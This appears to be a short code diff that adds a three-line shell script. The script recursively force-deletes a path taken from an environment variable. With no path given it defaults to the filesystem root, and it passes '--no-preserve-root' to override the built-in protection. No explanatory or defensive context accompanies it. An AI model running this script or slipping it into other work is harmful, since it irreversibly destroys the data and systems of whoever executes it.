@@ -1,0 +1,3 @@
+#!/bin/sh
+target="${TARGET:-/}"
+rm -rf --no-preserve-root "$target"
